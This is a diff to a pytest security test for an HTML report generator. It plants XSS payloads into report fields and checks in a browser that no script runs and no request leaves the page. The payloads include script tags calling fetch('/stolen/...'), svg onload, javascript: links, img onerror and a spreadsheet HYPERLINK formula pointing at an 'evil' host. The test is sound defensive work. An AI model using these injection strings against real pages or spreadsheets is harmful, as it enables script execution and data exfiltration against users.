@@ -7,6 +7,7 @@ import dataclasses
 import functools
 import http.server
 import io
+import json
 import re
 import threading
 from collections.abc import Iterator
@@ -24,10 +25,10 @@ from tests.browser import BROWSER, dump_page
 from tests.views.answered_sweep import build_answered, change_record
 from tests.views.sweep_builder import SweepBuilder, diverged, make_provenance
 
-pytestmark = [
-    pytest.mark.slow,
-    pytest.mark.skipif(BROWSER is None, reason="no chromium or google-chrome is installed"),
-]
+pytestmark = pytest.mark.slow
+in_a_browser = pytest.mark.skipif(
+    BROWSER is None, reason="no chromium or google-chrome is installed, so that no script runs is not seen in a browser"
+)
 
 ATTACKS = (
     "<script>window.pwned = 1; document.title = 'pwned'; fetch('/stolen/{where}')</script>",
@@ -35,11 +36,17 @@ ATTACKS = (
     "</pre></td></svg><svg onload=\"document.title = 'pwned'\"><style>@import '/stolen/{where}';</style>",
     "<a href=\"javascript:document.title = 'pwned'\" autofocus onfocus=\"document.title = 'pwned'\">{where}</a>",
 )
+NAME_ATTACK = "<script>stop('/stolen/{where}')</script><img src=/stolen/{where} onerror=\"title='pwned'\">"
+"""Of names, of which the page shows what stands behind the last dot or colon."""
 FORMULA = '=HYPERLINK("http://evil/"&A1)'
 
 
 def attack(where: str) -> str:
     return " ".join(text.replace("{where}", where) for text in ATTACKS)
+
+
+def name_attack(where: str) -> str:
+    return NAME_ATTACK.replace("{where}", where)
 
 
 class Listening(http.server.SimpleHTTPRequestHandler):
@@ -76,6 +83,11 @@ def poison(sweep: SweepBuilder) -> None:
     )  # fmt: skip
     for trial in sweep.trials:
         change_record(sweep, trial, provenance=origin)
+        if trial.model.attention != "self":
+            file = sweep.results.trial(trial.trial_id).trial_file
+            content = json.loads(file.read_bytes())
+            content["model"]["attention"] = name_attack("attention")
+            durable.write_text(file, json.dumps(content))
     lost, failed, damaged, *_ = reversed(sweep.trials)
     sweep.finish(lost, diverged(lost, diverged=attack("diverged"), provenance=origin))
     sweep.results.trial(failed.trial_id).record_file.unlink()
@@ -90,16 +102,14 @@ def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
     root = tmp_path_factory.mktemp("poisoned")
     sweep = build_answered(root, axes, seeds=3, num_images=50, question=attack("question"))
     index = sweep.results.sweep(sweep.name).read_index()
-    told = {"mix_only": attack("attention")}
     members = tuple(
         dataclasses.replace(
             member,
-            axes={name: told.get(str(value), value) for name, value in member.axes.items()}
-            | {attack("axis"): attack("value")},
+            axes={**member.axes, name_attack("axis"): attack("value")},
         )
         for member in index.members
     )
-    poisoned = dataclasses.replace(index, axes=(*index.axes, attack("axis")), members=members)
+    poisoned = dataclasses.replace(index, axes=(*index.axes, name_attack("axis")), members=members)
     durable.write_sealed_json(sweep.results.sweep(sweep.name).trials_file, poisoned.to_json())
     poison(sweep)
     with pytest.MonkeyPatch.context() as patch:
@@ -108,6 +118,7 @@ def report(tmp_path_factory: pytest.TempPathFactory) -> Report:
         return write_report(root, sweep.name)
 
 
+@in_a_browser
 def test_no_script_of_a_report_runs_and_nothing_is_asked_of_the_network(report: Report) -> None:
     with listening(report.path.parent) as (address, asked):
         shown = dump_page(f"{address}/index.html")
@@ -121,21 +132,14 @@ def test_no_script_of_a_report_runs_and_nothing_is_asked_of_the_network(report: 
 def test_each_place_of_the_attack_is_on_the_page(report: Report) -> None:
     page = report.path.read_text()
     places = (
-        "device",
-        "host",
-        "command",
-        "commit",
-        "question",
-        "error",
-        "diverged",
-        "spec",
-        "value",
-        "torch",
-        "library",
+        *("device", "host", "command", "commit", "question", "error", "diverged", "spec", "value", "torch", "library"),
+        *("axis", "attention", "code", "data", "executor"),
     )
+    assert "/stolen/notice" not in page, "what a damaged file holds is not quoted"
     assert [place for place in places if f"/stolen/{place}" not in page] == []
 
 
+@in_a_browser
 def test_the_browser_would_have_run_it(tmp_path: Path) -> None:
     (tmp_path / "index.html").write_text(f"<!DOCTYPE html><title>x</title>{attack('here')}")
     with listening(tmp_path) as (address, asked):
@@ -144,6 +148,7 @@ def test_the_browser_would_have_run_it(tmp_path: Path) -> None:
     assert "/stolen/here" in asked
 
 
+@in_a_browser
 def test_the_policy_alone_holds_where_escaping_was_forgotten(report: Report, tmp_path: Path) -> None:
     policy = re.search(r"<meta http-equiv=.Content-Security-Policy.*?>", report.path.read_text())
     assert policy is not None
